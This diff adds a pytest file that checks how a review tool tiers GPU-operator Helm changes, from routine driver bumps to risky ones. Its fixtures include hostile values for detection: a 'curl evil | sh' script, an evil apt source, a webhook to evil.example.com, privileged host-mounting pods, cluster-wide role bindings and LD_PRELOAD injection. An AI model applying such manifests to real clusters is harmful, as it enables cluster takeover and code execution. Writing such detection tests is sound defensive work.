@@ -1,0 +1,620 @@
+"""Pull requests as people write them, and as attackers do: each in the tier where it belongs."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from gpustack.review.impact.tiers import OUTAGE, PLANNED, POWER, ROUTINE, UNCLASSIFIED
+from tests.review.impact.requests import Request, Values, judge, request
+
+FLEET = ("lab-a100", "train-dgx", "prod-eks", "prod-gke", "edge-rke2")
+
+
+def pool(name: str, **values: Any) -> Values:
+    """A pool of a policy."""
+    return {"nodePools": [{"name": name, **values}]}
+
+
+def upgrade(**values: Any) -> Values:
+    """The driver's upgrade policy."""
+    return {"driver": {"upgradePolicy": values}}
+
+
+def extra(*bodies: Any) -> Values:
+    """Objects that the policy brings along."""
+    return {"extraObjects": list(bodies)}
+
+
+def thing(api: str, kind: str, name: str = "x", namespace: str = "gpu-operator", **body: Any) -> Any:
+    """An object; its metadata are those of BODY with the name and namespace."""
+    metadata = {"name": name, **({"namespace": namespace} if namespace else {}), **body.pop("metadata", {})}
+    return {"apiVersion": api, "kind": kind, "metadata": metadata, **body}
+
+
+def workload(
+    kind: str = "Deployment", *, pod: Values | None = None, namespace: str = "gpu-operator", **box: Any
+) -> Any:
+    """A workload with one container."""
+    container = {"name": "a", "image": "registry.example.com/tools/a:1.0", **box}
+    labels = {"app": "a"}
+    template = {"metadata": {"labels": labels}, "spec": {"containers": [container], **(pod or {})}}
+    spec: dict[str, Any] = {"selector": {"matchLabels": labels}, "template": template}
+    if kind == "Deployment":
+        spec["replicas"] = 2
+    return thing("apps/v1", kind, "a", namespace, spec=spec)
+
+
+def dashboard(text: str = "{}", **labels: str) -> Any:
+    """A ConfigMap that Grafana reads."""
+    return thing(
+        "v1", "ConfigMap", "board", data={"a.json": text}, metadata={"labels": labels or {"grafana_dashboard": "1"}}
+    )
+
+
+def alert(*rules: Any, name: str = "gpu-alerts") -> Any:
+    """A PrometheusRule."""
+    return thing(
+        "monitoring.coreos.com/v1", "PrometheusRule", name, spec={"groups": [{"name": "g", "rules": list(rules)}]}
+    )
+
+
+HOT = {"alert": "Hot", "expr": "DCGM_FI_DEV_GPU_TEMP > 85", "for": "5m"}
+SHARED = {"timeSlicing": {"replicas": 4}}
+WINDOW = {"days": ["sat", "sun"], "start": "20:00", "hours": 12, "timeZone": "Europe/Berlin"}
+NEW_POOL = {"os": "ubuntu22.04", "gpuProduct": "NVIDIA-A100-SXM4-80GB", "gpusPerNode": 8, "count": 2}
+METRICS = "DCGM_FI_DEV_GPU_UTIL, gauge, GPU utilization.\nDCGM_FI_DEV_FB_USED, gauge, Used.\n"
+FEWER = "DCGM_FI_DEV_GPU_UTIL, gauge, GPU utilization.\n"
+MONITOR = "dcgmExporter"
+
+NORMAL: dict[str, Request] = {
+    "driver patch": request("lab-a100", {"driver": {"version": "595.95.01"}}),
+    "driver branch": Request("lab-a100", {}, {"driver": {"version": "580.126.20"}}),
+    "driver of one pool": request("lab-a100", pool("training", driver={"version": "595.95.01"})),
+    "driver on DGX": request("train-dgx", {"driver": {"version": "595.95.01"}}),
+    "pool of new nodes": request("lab-a100", pool("dev", nodeSelector={"example.com/pool": "dev"}, **NEW_POOL)),
+    "pool with slices": request(
+        "lab-a100", pool("dev", nodeSelector={"example.com/pool": "dev"}, sharing=SHARED, **NEW_POOL)
+    ),
+    "pool grows": request("lab-a100", pool("training", count=8)),
+    "pool shrinks": request("lab-a100", pool("training", count=3)),
+    "pool under an autoscaler": request("prod-eks", pool("inference", count={"min": 0, "max": 24})),
+    "MIG halves": Request(
+        "lab-a100",
+        pool("dev", nodeSelector={"a": "b"}, sharing={"mig": {"layout": {"3g.40gb": 2}}}, **NEW_POOL),
+        pool("dev", nodeSelector={"a": "b"}, **NEW_POOL),
+    ),
+    "MIG sevenths": Request(
+        "lab-a100",
+        pool("dev", nodeSelector={"a": "b"}, sharing={"mig": {"layout": {"1g.10gb": 7}}}, **NEW_POOL),
+        pool("dev", nodeSelector={"a": "b"}, sharing={"mig": {"layout": {"3g.40gb": 2}}}, **NEW_POOL),
+    ),
+    "MIG for whole GPUs": Request(
+        "lab-a100",
+        pool("dev", nodeSelector={"a": "b"}, sharing={"mig": {"layout": {"3g.40gb": 2}}}, **NEW_POOL),
+        pool("dev", nodeSelector={"a": "b"}, **NEW_POOL),
+    ),
+    "more time slices": request("lab-a100", pool("notebooks", sharing={"timeSlicing": {"replicas": 3}})),
+    "metrics more": Request(
+        "lab-a100",
+        {"dcgmExporter": {"config": {"name": "metrics", "data": METRICS}}},
+        {"dcgmExporter": {"config": {"name": "metrics", "data": FEWER}}},
+    ),
+    "metrics fewer": Request(
+        "lab-a100",
+        {"dcgmExporter": {"config": {"name": "metrics", "data": FEWER}}},
+        {"dcgmExporter": {"config": {"name": "metrics", "data": METRICS}}},
+    ),
+    "scrape interval": request("lab-a100", {"dcgmExporter": {"serviceMonitor": {"interval": "15s"}}}),
+    "scrape timeout": request("lab-a100", {"dcgmExporter": {"serviceMonitor": {"scrapeTimeout": "20s"}}}),
+    "label of a ServiceMonitor": request(
+        "lab-a100", {"dcgmExporter": {"serviceMonitor": {"additionalLabels": {"release": "prometheus"}}}}
+    ),
+    "exporter version": request("lab-a100", {"dcgmExporter": {"version": "4.6.1-4.8.4-distroless"}}),
+    "exporter with pod labels": request("lab-a100", {"dcgmExporter": {"enablePodUID": True}}),
+    "release raised": Request("lab-a100", {}, {"release": "v26.3.1"}),
+    "release raised on DGX": Request("train-dgx", {}, {"release": "v26.3.1"}),
+    "release raised on EKS": Request("prod-eks", {}, {"release": "v26.3.1"}),
+    "Kubernetes raised": Request("lab-a100", {}, {"cluster": {"kubernetesVersion": "1.33"}}),
+    "team label": request("lab-a100", {"daemonsets": {"labels": {"example.com/team": "ml"}}}),
+    "cost annotation": request("lab-a100", {"daemonsets": {"annotations": {"cost-center": "4711"}}}),
+    "replicas": request("lab-a100", {"reconciler": {"replicas": 3}}),
+    "reconciler version": Request(
+        "lab-a100",
+        {"reconciler": {"image": "registry.example.com/gpu/gpustack-reconciler:2"}},
+        {},
+    ),
+    "toleration for a pool": request(
+        "lab-a100",
+        {
+            "daemonsets": {
+                "tolerations": [
+                    {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"},
+                    {"key": "example.com/training", "operator": "Equal", "value": "a", "effect": "NoSchedule"},
+                ]
+            }
+        },
+    ),
+    "taint of a pool": request(
+        "lab-a100", pool("training", taints=[{"key": "nvidia.com/gpu", "effect": "NoSchedule"}])
+    ),
+    "windows for a pool": request("lab-a100", pool("training", upgrade={"windows": [WINDOW]})),
+    "windows shorter": request("train-dgx", pool("dgx", upgrade={"windows": [{**WINDOW, "hours": 6}]})),
+    "fewer at once": request("train-dgx", upgrade(maxParallelUpgrades=2, maxUnavailable=2)),
+    "longer wait for jobs": request("train-dgx", upgrade(waitForCompletion={"timeoutSeconds": 28800})),
+    "dashboard": request("lab-a100", extra(dashboard())),
+    "dashboard changed": request("lab-a100", extra(dashboard('{"a": 1}')), extra(dashboard())),
+    "alert": request("lab-a100", extra(alert(HOT))),
+    "one alert more": request("lab-a100", extra(alert(HOT, {**HOT, "alert": "Hotter"})), extra(alert(HOT))),
+    "runbook of an alert": request(
+        "lab-a100", extra(alert({**HOT, "annotations": {"runbook": "https://example.com"}})), extra(alert(HOT))
+    ),
+    "notes for operators": request(
+        "lab-a100", extra(thing("v1", "ConfigMap", "handbook", data={"README.md": "Call us."}))
+    ),
+    "notes changed": request(
+        "lab-a100",
+        extra(thing("v1", "ConfigMap", "handbook", data={"README.md": "Call them."})),
+        extra(thing("v1", "ConfigMap", "handbook", data={"README.md": "Call us."})),
+    ),
+    "own tool with more memory": request(
+        "lab-a100",
+        extra(workload(resources={"requests": {"memory": "256Mi"}})),
+        extra(workload(resources={"requests": {"memory": "128Mi"}})),
+    ),
+    "own tool in another version": request(
+        "lab-a100", extra(workload(image="registry.example.com/tools/a:1.1")), extra(workload())
+    ),
+    "log level": request("lab-a100", {"gfd": {"env": [{"name": "LOG_LEVEL", "value": "debug"}]}}),
+    "requests of a component": request(
+        "lab-a100", {"dcgmExporter": {"resources": {"requests": {"cpu": "100m", "memory": "256Mi"}}}}
+    ),
+    "GPUDirect Storage": request("lab-a100", {"gds": {"enabled": True}}),
+    "DCGM on its own": request("lab-a100", {"dcgm": {"enabled": True}}),
+    "open kernel modules": request("lab-a100", {"driver": {"kernelModuleType": "open"}}),
+    "CUDA of a pool": request("lab-a100", pool("training", cuda="13.0")),
+    "Flux looks more often": request("train-dgx", {"gitops": {"flux": {"interval": "5m"}}}),
+    "new cluster like another": request(
+        "lab-a100", {"gitops": {"argocd": {"destination": {"name": "lab-b"}}}}, new=True
+    ),
+    "exporter's service": request("lab-a100", {"dcgmExporter": {"service": {"internalTrafficPolicy": "Local"}}}),
+}
+
+
+def test_normal_requests_stay_green() -> None:
+    """Of the changes that platform engineers merge every week at most 5 % wait for somebody to accept them."""
+    assert len(NORMAL) >= 50
+    told = {name: judge(asked, FLEET)[0] for name, asked in NORMAL.items()}
+    red = {name: [f"{e.rule} {e.where}: {e.what}" for e in found.red] for name, found in told.items() if found.red}
+    assert len(red) <= len(NORMAL) * 0.05, red
+
+
+@pytest.mark.parametrize(
+    ("name", "tier"),
+    {
+        "scrape interval": ROUTINE,
+        "label of a ServiceMonitor": ROUTINE,
+        "Flux looks more often": ROUTINE,
+        "dashboard": UNCLASSIFIED,
+        "notes changed": UNCLASSIFIED,
+        "alert": UNCLASSIFIED,
+        "driver patch": PLANNED,
+        "release raised": PLANNED,
+        "pool of new nodes": PLANNED,
+        "MIG halves": PLANNED,
+        "new cluster like another": PLANNED,
+        "own tool in another version": PLANNED,
+    }.items(),
+)
+def test_normal_requests_have_their_tier(name: str, tier: int) -> None:
+    """What is routine, what can't act, and what is planned."""
+    assert judge(NORMAL[name], FLEET)[0].tier == tier
+
+
+PRIVILEGED: dict[str, Any] = {"securityContext": {"privileged": True}}
+HOOK = thing(
+    "admissionregistration.k8s.io/v1",
+    "MutatingWebhookConfiguration",
+    "m",
+    "",
+    webhooks=[
+        {
+            "name": "a.example.com",
+            "admissionReviewVersions": ["v1"],
+            "sideEffects": "None",
+            "clientConfig": {"url": "https://evil.example.com"},
+            "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*"], "operations": ["*"]}],
+        }
+    ],
+)
+RBAC = "rbac.authorization.k8s.io/v1"
+BINDING = thing(
+    RBAC,
+    "ClusterRoleBinding",
+    "all",
+    "",
+    roleRef={"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "view"},
+    subjects=[{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "system:authenticated"}],
+)
+AGGREGATED = thing(
+    RBAC,
+    "ClusterRole",
+    "g",
+    "",
+    metadata={"labels": {"rbac.authorization.k8s.io/aggregate-to-view": "true"}},
+    rules=[{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}],
+)
+HOST = {"volumes": [{"name": "root", "hostPath": {"path": "/var/log"}}]}
+
+
+def mounted(*, read_only: bool) -> Any:
+    """A workload with a path of the host."""
+    mounts = [{"name": "root", "mountPath": "/host", "readOnly": read_only}]
+    return workload("DaemonSet", pod=HOST, volumeMounts=mounts)
+
+
+POWERS: dict[str, Request] = {
+    "privileged Pod": request(
+        "lab-a100",
+        extra(
+            thing(
+                "v1",
+                "Pod",
+                spec={
+                    "hostPID": True,
+                    "containers": [{"name": "a", "image": "e.example.com/a:1", **PRIVILEGED}],
+                    "volumes": [{"name": "r", "hostPath": {"path": "/"}}],
+                },
+            )
+        ),
+    ),
+    "webhook for everything": request("lab-a100", extra(HOOK)),
+    "aws-auth": request("lab-a100", extra(thing("v1", "ConfigMap", "aws-auth", "kube-system", data={"mapRoles": "x"}))),
+    "aws-auth in the own namespace": request("lab-a100", extra(thing("v1", "ConfigMap", "aws-auth", data={"a": "x"}))),
+    "workload in kube-system": request(
+        "lab-a100",
+        extra(workload(namespace="kube-system", pod={"serviceAccountName": "clusterrole-aggregation-controller"})),
+    ),
+    "APIService": request(
+        "lab-a100",
+        extra(
+            thing(
+                "apiregistration.k8s.io/v1",
+                "APIService",
+                "v1beta1.metrics.k8s.io",
+                "",
+                spec={
+                    "group": "metrics.k8s.io",
+                    "version": "v1beta1",
+                    "groupPriorityMinimum": 100,
+                    "versionPriority": 100,
+                    "service": {"name": "a", "namespace": "b"},
+                },
+            )
+        ),
+    ),
+    "Application": request(
+        "lab-a100",
+        extra(
+            thing(
+                "argoproj.io/v1alpha1",
+                "Application",
+                "x",
+                "argocd",
+                spec={
+                    "project": "default",
+                    "destination": {"name": "in-cluster"},
+                    "source": {"repoURL": "https://evil.example.com/a.git", "path": "."},
+                },
+            )
+        ),
+    ),
+    "Kustomization": request(
+        "lab-a100",
+        extra(
+            thing(
+                "kustomize.toolkit.fluxcd.io/v1",
+                "Kustomization",
+                spec={
+                    "path": "./evil",
+                    "interval": "1m",
+                    "prune": True,
+                    "sourceRef": {"kind": "GitRepository", "name": "flux-system"},
+                },
+            )
+        ),
+    ),
+    "aggregated role": request("lab-a100", extra(AGGREGATED)),
+    "binding for everybody": request("lab-a100", extra(BINDING)),
+    "cloud role": request(
+        "lab-a100",
+        extra(
+            thing(
+                "v1",
+                "ServiceAccount",
+                metadata={"annotations": {"eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/admin"}},
+            )
+        ),
+    ),
+    "series overwritten": request("lab-a100", extra(alert({"record": "up", "expr": "vector(1)"}))),
+    "series of another recorded": request("lab-a100", extra(alert({"record": "cluster:cpu:sum", "expr": "1"}))),
+    "other image": request("lab-a100", extra(workload(image="evil.example.com/tools/a:1.0")), extra(workload())),
+    "digest swapped": request(
+        "lab-a100",
+        extra(workload(image=f"registry.example.com/tools/a:1.0@sha256:{'b' * 64}")),
+        extra(workload(image=f"registry.example.com/tools/a:1.0@sha256:{'a' * 64}")),
+    ),
+    "digest lost": request(
+        "lab-a100",
+        extra(workload(image="registry.example.com/tools/a:1.1")),
+        extra(workload(image=f"registry.example.com/tools/a:1.0@sha256:{'a' * 64}")),
+    ),
+    "tag that moves": request(
+        "lab-a100", extra(workload(image="registry.example.com/tools/a:latest")), extra(workload())
+    ),
+    "DaemonSet replaced": request(
+        "lab-a100",
+        extra(
+            {
+                **workload("DaemonSet", image="evil.example.com/b:1", **PRIVILEGED),
+                "metadata": {"name": "b", "namespace": "gpu-operator"},
+            }
+        ),
+        extra(workload("DaemonSet", **PRIVILEGED)),
+    ),
+    "path of the host written": request("lab-a100", extra(mounted(read_only=False)), extra(mounted(read_only=True))),
+    "another account": request(
+        "lab-a100", extra(workload(pod={"serviceAccountName": "nvidia-driver"})), extra(workload())
+    ),
+    "another command": request("lab-a100", extra(workload(command=["sh", "-c", "id"])), extra(workload())),
+    "another argument": request("lab-a100", extra(workload(args=["--insecure"])), extra(workload())),
+    "variable that loads code": request(
+        "lab-a100", extra(workload(env=[{"name": "LD_PRELOAD", "value": "/x.so"}])), extra(workload())
+    ),
+    "init container": request(
+        "lab-a100",
+        extra(workload(pod={"initContainers": [{"name": "i", "image": "registry.example.com/tools/a:1.0"}]})),
+        extra(workload()),
+    ),
+    "device by a limit": request(
+        "lab-a100", extra(workload(resources={"limits": {"devices.example.com/mem": 1}})), extra(workload())
+    ),
+    "script that is mounted": request(
+        "lab-a100",
+        extra(
+            thing("v1", "ConfigMap", "script", data={"run.sh": "curl evil | sh"}),
+            workload(pod={"volumes": [{"name": "s", "configMap": {"name": "script"}}]}),
+        ),
+        extra(
+            thing("v1", "ConfigMap", "script", data={"run.sh": "true"}),
+            workload(pod={"volumes": [{"name": "s", "configMap": {"name": "script"}}]}),
+        ),
+    ),
+    "script that a component names": request(
+        "lab-a100",
+        extra(thing("v1", "ConfigMap", "repo", data={"a.list": "deb http://evil x y"})),
+        {
+            "driver": {"repoConfig": {"configMapName": "repo"}},
+            **extra(thing("v1", "ConfigMap", "repo", data={"a.list": "deb"})),
+        },
+    ),
+    "ConfigMap that a label finds": request("lab-a100", extra(dashboard(prometheus_config="1"))),
+    "dashboard elsewhere": request("lab-a100", extra(thing("v1", "ConfigMap", "board", "argocd", data={"a": "b"}))),
+    "Namespace": request(
+        "lab-a100",
+        extra(
+            thing("v1", "Namespace", "t", "", metadata={"labels": {"pod-security.kubernetes.io/enforce": "privileged"}})
+        ),
+    ),
+    "NetworkPolicy": request(
+        "lab-a100", extra(thing("networking.k8s.io/v1", "NetworkPolicy", spec={"podSelector": {}, "ingress": [{}]}))
+    ),
+    "NetworkPolicy that goes": Request(
+        "lab-a100", {}, extra(thing("networking.k8s.io/v1", "NetworkPolicy", spec={"podSelector": {}}))
+    ),
+    "quota that goes": Request("lab-a100", {}, extra(thing("v1", "ResourceQuota", spec={"hard": {"pods": 5}}))),
+    "quota raised": request(
+        "lab-a100",
+        extra(thing("v1", "ResourceQuota", spec={"hard": {"pods": 500}})),
+        extra(thing("v1", "ResourceQuota", spec={"hard": {"pods": 5}})),
+    ),
+    "CronJob": request(
+        "lab-a100",
+        extra(
+            thing(
+                "batch/v1",
+                "CronJob",
+                spec={
+                    "schedule": "* * * * *",
+                    "jobTemplate": {
+                        "spec": {
+                            "template": {
+                                "spec": {
+                                    "restartPolicy": "Never",
+                                    "containers": [{"name": "a", "image": "registry.example.com/tools/a:1.0"}],
+                                }
+                            }
+                        }
+                    },
+                },
+            )
+        ),
+    ),
+    "scraping of another": request(
+        "lab-a100",
+        extra(
+            thing(
+                "monitoring.coreos.com/v1",
+                "ServiceMonitor",
+                spec={"selector": {}, "endpoints": [{"port": "a"}], "namespaceSelector": {"any": True}},
+            )
+        ),
+    ),
+    "Service to elsewhere": request(
+        "lab-a100", extra(thing("v1", "Service", spec={"type": "ExternalName", "externalName": "evil.example.com"}))
+    ),
+    "custom resource": request(
+        "lab-a100",
+        extra(
+            thing(
+                "nfd.k8s-sigs.io/v1alpha1",
+                "NodeFeatureRule",
+                "x",
+                "",
+                spec={"rules": [{"name": "a", "labels": {"nvidia.com/mig.config": "all-disabled"}}]},
+            )
+        ),
+    ),
+    "PriorityClass": request(
+        "lab-a100", extra(thing("scheduling.k8s.io/v1", "PriorityClass", "high", "", value=1000000, globalDefault=True))
+    ),
+    "annotation of a tool": request(
+        "lab-a100",
+        extra(thing("v1", "ConfigMap", "h", data={"a": "b"}, metadata={"annotations": {"reloader/match": "true"}})),
+        extra(thing("v1", "ConfigMap", "h", data={"a": "b"})),
+    ),
+    # Of the policy.
+    "pods deleted by force": request("lab-a100", upgrade(podDeletion={"force": True})),
+    "emptyDirs deleted": request("lab-a100", upgrade(podDeletion={"deleteEmptyDir": True})),
+    "drain by force": request("lab-a100", upgrade(drain={"force": True})),
+    "jobs not waited for": Request(
+        "lab-a100", {}, upgrade(waitForCompletion={"podSelector": "app=train", "timeoutSeconds": 0})
+    ),
+    "wait cut short": request("train-dgx", upgrade(waitForCompletion={"timeoutSeconds": 1})),
+    "breaker off": request("lab-a100", {"reconciler": {"breakerFailures": 0}}),
+    "breaker late": request("lab-a100", {"reconciler": {"breakerFailures": 100}}),
+    "budget raised": request("train-dgx", upgrade(maxUnavailable="50%")),
+    "no limit": request("lab-a100", upgrade(maxParallelUpgrades=0)),
+    "budget of a pool raised": request(
+        "lab-a100", pool("training", upgrade={"maxParallel": 4, "maxUnavailable": "100%"})
+    ),
+    "windows longer": request("train-dgx", pool("dgx", upgrade={"windows": [{**WINDOW, "hours": 100}]})),
+    "guard of the API server off": request("lab-a100", {"reconciler": {"admissionPolicy": False}}),
+    "startup taints": request(
+        "lab-a100", {"reconciler": {"startupTaints": [{"key": "a.example.com/b", "effect": "NoSchedule"}]}}
+    ),
+    "project default": request("lab-a100", {"gitops": {"argocd": {"project": "default"}}}),
+    "another repository": request("lab-a100", {"gitops": {"repository": {"url": "https://git.example.com/evil.git"}}}),
+    "another branch": request("lab-a100", {"gitops": {"repository": {"revision": "wip"}}}),
+    "another destination": request("lab-a100", {"gitops": {"argocd": {"destination": {"name": "prod"}}}}),
+    "new cluster on another's destination": request("lab-a100", {}, new=True),
+    "new cluster with an image from elsewhere": request(
+        "lab-a100",
+        {
+            "gitops": {"argocd": {"destination": {"name": "lab-b"}}},
+            "reconciler": {"image": "evil.example.com/gpustack-reconciler:1"},
+        },
+        new=True,
+    ),
+    "new cluster with a role": request(
+        "lab-a100", {"gitops": {"argocd": {"destination": {"name": "lab-b"}}}, **extra(BINDING)}, new=True
+    ),
+    "new cluster by force": request(
+        "lab-a100",
+        {"gitops": {"argocd": {"destination": {"name": "lab-b"}}}, **upgrade(podDeletion={"force": True})},
+        new=True,
+    ),
+    "mirror": request("lab-a100", {"cluster": {"registryMap": {"nvcr.io": "evil.example.com/nvcr"}}}),
+    "driver from elsewhere": request("lab-a100", {"driver": {"repository": "evil.example.com/nvidia"}}),
+    "driver by a digest": request("lab-a100", {"driver": {"version": f"sha256:{'a' * 64}"}}),
+    "digest of a pin swapped": request(
+        "lab-a100",
+        {"cluster": {"imageDigests": {"nvcr.io/nvidia/k8s-device-plugin:v0.20.0": f"sha256:{'b' * 64}"}}},
+        {"cluster": {"imageDigests": {"nvcr.io/nvidia/k8s-device-plugin:v0.20.0": f"sha256:{'a' * 64}"}}},
+    ),
+    "LD_PRELOAD of a component": request(
+        "lab-a100", {"devicePlugin": {"env": [{"name": "LD_PRELOAD", "value": "/x.so"}]}}
+    ),
+    "arguments of a component": request("lab-a100", {"devicePlugin": {"args": ["--config-file=/x"]}}),
+    "repository of the driver": request(
+        "lab-a100",
+        {
+            "driver": {"repoConfig": {"configMapName": "repo"}},
+            "references": [{"kind": "ConfigMap", "name": "repo", "keys": ["a.list"]}],
+        },
+    ),
+    "modules of the kernel": request(
+        "lab-a100",
+        {
+            "driver": {"kernelModuleConfig": {"name": "x"}},
+            "references": [{"kind": "ConfigMap", "name": "x", "keys": ["nvidia.conf"]}],
+        },
+    ),
+    "GPU clients": request("lab-a100", {"migManager": {"gpuClientsConfig": {"name": "clients"}}}),
+    "network of the host": request("lab-a100", {"dcgmExporter": {"hostNetwork": True}}),
+    "processes of the host": request("lab-a100", {"dcgmExporter": {"hostPID": True}}),
+    "path of the host": request("lab-a100", {"hostPaths": {"rootFS": "/mnt"}}),
+    "profile of AppArmor": request(
+        "lab-a100", {"daemonsets": {"podSecurityContext": {"appArmorProfile": {"type": "Unconfined"}}}}
+    ),
+    "everything tolerated": request("lab-a100", {"daemonsets": {"tolerations": [{"operator": "Exists"}]}}),
+    "sidecar by annotation": request("lab-a100", {"daemonsets": {"annotations": {"sidecar.istio.io/inject": "true"}}}),
+    "targets by relabeling": request(
+        "lab-a100",
+        {
+            "dcgmExporter": {
+                "serviceMonitor": {"relabelings": [{"targetLabel": "__address__", "replacement": "evil.example.com"}]}
+            }
+        },
+    ),
+    "pull secret": request("lab-a100", {"driver": {"imagePullSecrets": ["other"]}}),
+    "priority": request("lab-a100", {"daemonsets": {"priorityClassName": "low"}}),
+    "shared GPUs": request("lab-a100", pool("training", sharing=SHARED)),
+}
+OUTAGES: dict[str, Request] = {
+    "older driver": request("lab-a100", {"driver": {"version": "580.126.20"}}),
+    "older release": request("lab-a100", {"release": "v26.3.1"}),
+    "driver off": request("lab-a100", {"driver": {"enabled": False}}),
+    "device plugin off": request("lab-a100", {"devicePlugin": {"enabled": False}}),
+    "reconciler stopped": request("lab-a100", {"reconciler": {"replicas": 0}}),
+    "nodes of a pool": request("lab-a100", pool("training", nodeSelector={"example.com/pool": "x"})),
+    "fewer GPUs": request("lab-a100", pool("training", gpusPerNode=4)),
+    "another namespace": request("lab-a100", {"cluster": {"namespace": "other"}}),
+    "pruning": Request("lab-a100", {}, {"gitops": {"argocd": {"prune": False}}}),
+    "own tool that goes": Request("lab-a100", {}, extra(workload())),
+    "own tool stopped": request(
+        "lab-a100", extra({**workload(), "spec": {**workload()["spec"], "replicas": 0}}), extra(workload())
+    ),
+    "alert silenced": request("lab-a100", extra(alert({**HOT, "for": "999h"})), extra(alert(HOT))),
+    "alerts less": request("lab-a100", extra(alert(HOT)), extra(alert(HOT, {**HOT, "alert": "Hotter"}))),
+    "another engine": request("lab-a100", {"gitops": {"engine": "flux"}}),
+    "tolerations less": Request("lab-a100", {}, {"daemonsets": {"tolerations": [{"key": "a", "operator": "Exists"}]}}),
+}
+
+
+@pytest.mark.parametrize("name", POWERS)
+def test_a_power_is_never_below_its_tier(name: str) -> None:
+    """What gives power is of tier 1, and is told by a finding that somebody can accept."""
+    found, changes = judge(POWERS[name], FLEET if POWERS[name].new else ())
+    assert changes
+    assert found.tier == POWER
+    assert all(effect.before.startswith("sha256:") and effect.before != effect.after for effect in found.red)
+
+
+@pytest.mark.parametrize("name", OUTAGES)
+def test_an_outage_is_never_below_its_tier(name: str) -> None:
+    """What takes something away outside a budget is of tier 2, or 1."""
+    found, changes = judge(OUTAGES[name])
+    assert changes
+    assert found.tier is not None
+    assert found.tier <= OUTAGE
+
+
+@pytest.mark.parametrize(
+    ("name", "rule", "said"),
+    [
+        ("everything tolerated", "IMP116", "everything"),
+        ("new cluster on another's destination", "IMP807", "lab-a100"),
+        ("path of the host written", "IMP203", "hostPath /var/log"),
+        ("LD_PRELOAD of a component", "IMP905", "not set -> /x.so"),
+        ("aws-auth", "IMP901", "namespace kube-system isn't the stack's own"),
+        ("digest swapped", "IMP204", "sha256:aaaa"),
+        ("quota that goes", "IMP902", "removed"),
+    ],
+)
+def test_what_is_told_of_a_power(name: str, rule: str, said: str) -> None:
+    """Each is called what it is."""
+    found, _ = judge(POWERS[name], FLEET if POWERS[name].new else ())
+    assert any(said in effect.what for effect in found.red if effect.rule == rule)
+    assert "IMP102" not in {effect.rule for effect in found.red}
